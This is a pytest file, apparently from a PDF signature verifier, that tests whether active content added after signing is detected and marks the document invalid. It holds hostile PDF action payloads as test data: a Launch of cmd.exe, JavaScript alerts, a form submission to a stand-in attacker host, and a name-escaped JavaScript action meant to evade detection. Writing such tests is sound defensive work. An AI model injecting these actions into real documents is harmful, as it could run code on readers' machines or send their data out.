"""Active content: what a viewer runs instead of showing the signed bytes. Anywhere in the
document it is a warning (the signer signed it); introduced after a signature it makes the
document INVALID, whatever pyHanko's difference analysis thinks of the update.
"""

from __future__ import annotations

import re

import pytest

from tests.attacks import kit

# (kind reported, how the attacker adds it to the signed document)
ACTIONS = {
    "JavaScript": b"<< /S /JavaScript /JS (app.alert\\('Da sua'\\)) >>",
    "Launch": b"<< /S /Launch /F (cmd.exe) >>",
    "SubmitForm": b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.invalid/) >> >>",
    "ImportData": b"<< /S /ImportData /F (data.fdf) >>",
    "GoToR": b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>",
    "GoToE": b"<< /S /GoToE /T << /R /C /N (x) >> >>",
    "URI javascript": b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "SetOCGState": b"<< /S /SetOCGState /State [/ON] >>",
    "Hide": b"<< /S /Hide /T (Signature1) >>",
}


def _with_catalog_entry(signed: bytes, entry: bytes, extra: list[bytes] = ()) -> bytes:
    """An update rewriting the catalog with `entry` (which may name the extra objects as
    {0}, {1} ... by number)."""
    _, size, _ = kit.trailer_info(signed)
    root = kit.reader(signed).root_ref.idnum
    numbers = [size + i for i in range(len(extra))]
    entry = entry.replace(b"{0}", b"%d" % numbers[0]) if numbers else entry
    catalog = kit.raw_dict(signed, root)
    catalog = catalog[: catalog.rindex(b">>")] + b" " + entry + b" >>"
    return kit.append_update(signed, list(zip(numbers, extra)) + [(root, catalog)])


def _link(signed: bytes, action: bytes) -> bytes:
    def build(n, page):
        return [action, b"<< /Type /Annot /Subtype /Link /Rect [72 60 200 80] /P %d 0 R /A %d 0 R >>" % (page, n)]

    return kit.add_annotation(signed, build)


@pytest.mark.parametrize("kind", ACTIONS)
def test_an_action_added_on_a_link_after_signing(kind, approval, trust):
    report = kit.verify(_link(approval, ACTIONS[kind]), trust)
    assert report.verdict == "INVALID", kit.explain(report)
    added = [f.params for f in report.findings if f.code == "ACTIVE_CONTENT_ADDED"]
    assert kind in {a["kind"] for a in added}, added


CATALOG = {
    "OpenAction": (b"/OpenAction {0} 0 R", [ACTIONS["JavaScript"]]),
    "AA": (b"/AA << /WC {0} 0 R >>", [ACTIONS["JavaScript"]]),
    "JavaScript": (b"/Names << /JavaScript << /Names [(x) {0} 0 R] >> >>", [ACTIONS["JavaScript"]]),
}
XFA = b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream"


@pytest.mark.parametrize("kind", CATALOG)
@pytest.mark.parametrize("mode", ["approval", "P=2"])
def test_document_level_active_content_added_after_signing(kind, mode, signed_by_mode, trust):
    entry, extra = CATALOG[kind]
    signed = signed_by_mode[mode]
    report = kit.verify(_with_catalog_entry(signed, entry, extra), trust)
    assert report.verdict == "INVALID", kit.explain(report)
    added = next(f for f in report.findings if f.code == "ACTIVE_CONTENT_ADDED" and f.params["kind"] == kind)
    assert added.params["revision"] == 3


@pytest.mark.parametrize("mode", ["approval", "P=2"])
def test_xfa_added_to_the_form_after_signing(mode, signed_by_mode, trust):
    signed = signed_by_mode[mode]
    acro = kit.reader(signed).root.raw_get("/AcroForm")
    _, size, _ = kit.trailer_info(signed)
    body = kit.raw_dict(signed, acro.idnum)
    body = body[: body.rindex(b">>")] + b" /XFA %d 0 R >>" % size
    report = kit.verify(kit.append_update(signed, [(size, XFA), (acro.idnum, body)]), trust)
    assert report.verdict == "INVALID"
    assert "XFA" in {f.params["kind"] for f in report.findings if f.code == "ACTIVE_CONTENT_ADDED"}


def test_page_additional_actions_added_after_signing(approval, trust):
    page = kit.page_ref(approval)
    _, size, _ = kit.trailer_info(approval)
    page_dict = kit.raw_dict(approval, page)
    page_dict = page_dict[: page_dict.rindex(b">>")] + b" /AA << /O %d 0 R >> >>" % size
    report = kit.verify(kit.append_update(approval, [(size, ACTIONS["JavaScript"]), (page, page_dict)]), trust)
    assert report.verdict == "INVALID"
    assert {"AA", "JavaScript"} <= {f.params["kind"] for f in report.findings if f.code == "ACTIVE_CONTENT_ADDED"}


def test_rich_media_annotation_added_after_signing(approval, trust):
    def build(n, page):
        return [b"<< /Type /Annot /Subtype /RichMedia /Rect [72 60 200 80] /P %d 0 R /RichMediaContent << >> >>" % page]

    report = kit.verify(kit.add_annotation(approval, build), trust)
    assert report.verdict == "INVALID"
    assert "RichMedia" in {f.params["kind"] for f in report.findings if f.code == "ACTIVE_CONTENT_ADDED"}


def test_active_content_in_the_signed_revision_is_a_warning(trust):
    """JavaScript the signer signed: reported, but the signature stands."""
    report = kit.verify(kit.sign(kit.base_pdf(javascript=True)), trust)
    assert report.verdict == "VALID", kit.explain(report)
    warning = next(f for f in report.findings if f.code == "ACTIVE_CONTENT")
    assert warning.severity == "warning" and warning.params["kind"] == "JavaScript"


def test_an_open_action_that_only_names_a_page_is_not_active(approval, trust):
    """Word and fpdf write /OpenAction [page /FitH null]: a destination, nothing runs (checked
    here in the signed revision; after signing the catalog change fails the layer anyway)."""
    report = kit.verify(kit.sign(_with_catalog_entry(kit.base_pdf(), b"/OpenAction [3 0 R /Fit]")), trust)
    assert report.verdict == "VALID", kit.explain(report)
    assert not {"ACTIVE_CONTENT", "ACTIVE_CONTENT_ADDED"} & kit.codes(report)


def test_name_escapes_do_not_hide_javascript(approval, trust):
    """/J#53 is /JS and /JavaScr#69pt is /JavaScript (ISO 32000-1 §7.3.5)."""
    action = b"<< /S /JavaScr#69pt /J#53 (app.alert\\(1\\)) >>"
    report = kit.verify(_link(approval, action), trust)
    assert "JavaScript" in {f.params["kind"] for f in report.findings if f.code == "ACTIVE_CONTENT_ADDED"}
    assert re.search(rb"#69", _link(approval, action))
